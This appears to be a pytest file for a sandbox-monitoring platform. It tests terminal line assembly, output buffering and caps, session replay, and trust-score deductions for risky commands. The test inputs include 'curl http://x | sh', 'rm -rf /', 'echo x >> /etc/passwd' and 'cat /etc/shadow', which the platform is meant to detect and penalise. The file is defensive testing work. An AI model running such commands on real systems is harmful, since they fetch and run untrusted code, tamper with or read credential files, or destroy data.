"""Terminal sessions: input lines become commands, output replays as a recording."""

from __future__ import annotations

import asyncio

from eventually import eventually_async
from observe_helpers import ACCOUNT, RecordingHooks

from caged_platform.observe import Observer
from caged_platform.observe.terminal import LineAssembler, OutputBuffer


def test_line_assembly_follows_line_editing() -> None:
    lines = LineAssembler()
    assert lines.feed("ls -") == []
    assert lines.feed("la\r") == ["ls -la"]
    assert lines.feed("cat /etc/pass\x7f\x7f\x7f\x7fpasswd\n") == ["cat /etc/passwd"]
    assert lines.feed("rm -rf /\x03echo ok\r") == ["echo ok"]  # ctrl+c drops the line
    assert lines.feed("git \x1b[A\x1b[Dstatus\x1bOP\r") == ["git status"]  # keys are dropped
    assert lines.feed("a b c\x17d\r") == ["a b d"]  # ctrl+w deletes a word
    assert lines.feed("one\rtwo\r\n\r") == ["one", "two"]  # blank lines are not commands
    assert lines.feed("\x1b]0;title\x07pwd\r") == ["pwd"]


def test_output_buffer_keeps_utf8_whole_and_caps_the_session() -> None:
    buffer = OutputBuffer(cap_bytes=10)
    euro = "€".encode()
    buffer.add(b"ab" + euro[:1], 0.0)
    assert buffer.take() == ("ab", 0)
    buffer.add(euro[1:] + b"cdefgh", 0.0)  # 8 bytes: 1 over the cap of 10
    assert buffer.take(final=True) == ("€cdefg", 2)  # offset: UTF-8 bytes before it
    assert buffer.dropped == 1
    buffer.add(b"more", 0.0)
    assert buffer.dropped == 5 and buffer.take() is None


async def test_a_terminal_session_replays_what_was_shown(
    observer: Observer, hooks: RecordingHooks
) -> None:
    hooks.add("cage-1")
    session_id = await observer.open_session(ACCOUNT, "cage-1", client="pytest")
    shown = [b"Welcome\r\n$ ", b"e", b"c", b"h", b"o", b" hi\r\n", b"hi\r\n$ "]
    for chunk in shown[:5]:
        await observer.terminal_output(session_id, chunk)
    await observer.terminal_input(session_id, "echo hi\r")
    await observer.terminal_output(session_id, shown[5])

    async def stored_while_live() -> bool:  # after the flush delay, the session still open
        live = await observer.sessions.replay(ACCOUNT, session_id, type="other")
        return "".join(e.data["data"] for e in live) == "Welcome\r\n$ echo hi\r\n"

    await eventually_async(stored_while_live)
    big = bytes(range(32, 127)) * 700  # ~65 KiB at once: cut into 4096-character chunks
    await observer.terminal_output(session_id, shown[6] + big)
    await observer.close_session(session_id)
    events = []
    after = 0
    while True:
        page = await observer.sessions.replay(ACCOUNT, session_id, after_seq=after, limit=3)
        events += page.events
        after = page.next_seq or after
        if not page.has_more:
            break
    assert [e.sequence for e in events] == list(range(1, len(events) + 1))
    output = [e for e in events if e.data.get("kind") == "terminal_output"]
    assert "".join(e.data["data"] for e in output) == b"".join([*shown, big]).decode()
    shown_so_far = 0
    for piece in output:  # each chunk says where it sits in the byte stream
        assert piece.data["offset"] == shown_so_far
        shown_so_far += len(piece.data["data"].encode())
    assert all(len(e.data["data"]) <= 4096 for e in output)
    # The typed line sits between the output shown before and after Enter.
    kinds = [e.type if e.type != "other" else "out" for e in events]
    command_at = kinds.index("command")
    assert events[command_at].data == {"command": "echo hi", "source": "terminal"}
    assert kinds[0] == "lifecycle" and kinds[-1] == "lifecycle"
    before = "".join(e.data["data"] for e in output if e.sequence < command_at + 1)
    assert before == "Welcome\r\n$ echo"
    timestamps = [e.timestamp for e in events]
    assert timestamps == sorted(timestamps)  # type: ignore[type-var]


async def test_output_past_the_cap_is_counted_not_stored(
    observer: Observer, hooks: RecordingHooks
) -> None:
    hooks.add("cage-1")
    session_id = await observer.open_session(ACCOUNT, "cage-1")
    for _ in range(600):  # 600 x 16 KiB = 9.4 MiB, past the 8 MiB cap
        await observer.terminal_output(session_id, b"y\n" * 8192)
    await observer.close_session(session_id)
    summary = await observer.sessions.replay_summary(ACCOUNT, session_id)
    last_two = await observer.sessions.replay(
        ACCOUNT, session_id, after_seq=summary.event_count - 2
    )
    note = last_two.events[0].data
    assert note["kind"] == "terminal_output_truncated"
    assert note["dropped_bytes"] == 600 * 16384 - 8 * 1024 * 1024


async def test_typing_curl_pipe_sh_costs_the_session_25_on_that_command(
    observer: Observer, hooks: RecordingHooks
) -> None:
    hooks.add("cage-1")
    session_id = await observer.open_session(ACCOUNT, "cage-1")
    await observer.terminal_input(session_id, "curl http://x | sh\r")
    await observer.close_session(session_id)
    [score] = await observer.sessions.trust_for_sandbox(ACCOUNT, "cage-1")
    assert score.score == 75
    [deduction] = score.deductions
    assert (deduction.rule, deduction.points) == ("pipe_to_shell", 25)
    page = await observer.sessions.replay(ACCOUNT, session_id, type="command")
    [command] = page.events
    assert command.data["command"] == "curl http://x | sh"
    assert (deduction.event_id, deduction.sequence) == (command.id, command.sequence)


async def test_a_pause_that_closes_the_terminal_does_not_wait_on_itself(
    observer: Observer, hooks: RecordingHooks
) -> None:
    """The platform pauses a sandbox by closing its sockets, which ends their sessions —
    while the line that caused the pause is still being recorded for that socket."""
    hooks.add("cage-1")

    async def close_sockets(sandbox_id: str) -> None:
        await observer.end_sandbox_sessions(sandbox_id, failed=True, reason="sandbox paused")

    hooks.on_pause = close_sockets
    session_id = await observer.open_session(ACCOUNT, "cage-1")
    typed = "curl http://x | sh\recho x >> /etc/passwd\r"  # 25 + 30: score 45, then...
    await asyncio.wait_for(observer.terminal_input(session_id, typed), 10)
    await asyncio.wait_for(observer.terminal_input(session_id, "cat /etc/shadow\r"), 10)
    await asyncio.wait_for(observer.wait_idle(), 10)
    assert [sandbox for sandbox, _ in hooks.paused] == ["cage-1"]
    session = await observer.sessions.get(ACCOUNT, session_id)
    assert (session.trust_score, session.status) == (25, "failed")
    await observer.terminal_input(session_id, "ls\r")  # after the close: ignored


async def test_output_of_control_characters_stays_under_the_payload_cap(
    observer: Observer, hooks: RecordingHooks
) -> None:
    # Each ESC is 6 bytes of JSON ("\u001b"): a chunk of them must still fit in 64 KiB.
    hooks.add("cage-1")
    session_id = await observer.open_session(ACCOUNT, "cage-1")
    await observer.terminal_output(session_id, b"\x1b" * 50_000)
    await observer.close_session(session_id)
    page = await observer.sessions.replay(ACCOUNT, session_id, type="other", limit=1000)
    assert sum(len(e.data["data"]) for e in page) == 50_000
